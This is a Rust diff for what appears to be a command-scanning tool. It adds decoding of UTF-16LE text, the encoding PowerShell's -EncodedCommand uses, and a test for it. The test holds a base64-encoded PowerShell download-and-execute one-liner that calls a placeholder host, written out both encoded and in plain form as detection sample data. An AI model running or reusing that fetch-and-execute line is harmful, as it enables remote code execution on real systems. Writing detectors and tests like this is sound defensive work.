@@ -81,7 +81,7 @@ pub fn decode_blob(blob: &str) -> Option<String> {
         }
         base64_decode(blob)?
     };
-    let text = String::from_utf8(bytes).ok()?;
+    let text = utf16le_text(&bytes).or_else(|| String::from_utf8(bytes).ok())?;
     let printable = text
         .chars()
         .filter(|c| !c.is_control() || matches!(c, '\n' | '\t' | '\r'))
@@ -663,6 +663,23 @@ fn exec_array(line: &str) -> Option<String> {
     Some(joined.into_owned())
 }
 
+/// Text that PowerShell's `-EncodedCommand` carries: UTF-16LE, so every other byte of
+/// ASCII text is zero. `None` unless the bytes read that way.
+fn utf16le_text(bytes: &[u8]) -> Option<String> {
+    if bytes.len() < 8 || !bytes.len().is_multiple_of(2) {
+        return None;
+    }
+    let zero_high = bytes.chunks_exact(2).filter(|c| c[1] == 0).count();
+    if zero_high * 10 < bytes.len() / 2 * 9 {
+        return None;
+    }
+    let units: Vec<u16> = bytes
+        .chunks_exact(2)
+        .map(|c| u16::from_le_bytes([c[0], c[1]]))
+        .collect();
+    String::from_utf16(&units).ok()
+}
+
 /// Most commands read from one configuration, and most lines one argument list spans.
 const MAX_CONFIG_COMMANDS: usize = 256;
 const MAX_ARGS_LINES: usize = 64;
@@ -920,6 +937,18 @@ mod tests {
                 .is_none()
         );
         assert!(decode_blob("usr/local/bin/something/else/entirely").is_none());
+    }
+
+    #[test]
+    fn encoded_commands_decode_from_utf16() {
+        // `[Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes('iex (iwr http://x.example/a)'))`
+        let encoded =
+            "aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwB4AC4AZQB4AGEAbQBwAGwAZQAvAGEAKQA=";
+        assert_eq!(
+            decode_blob(encoded).as_deref(),
+            Some("iex (iwr http://x.example/a)")
+        );
+        assert_eq!(utf16le_text(b"plain ascii text"), None);
     }
 
     #[test]
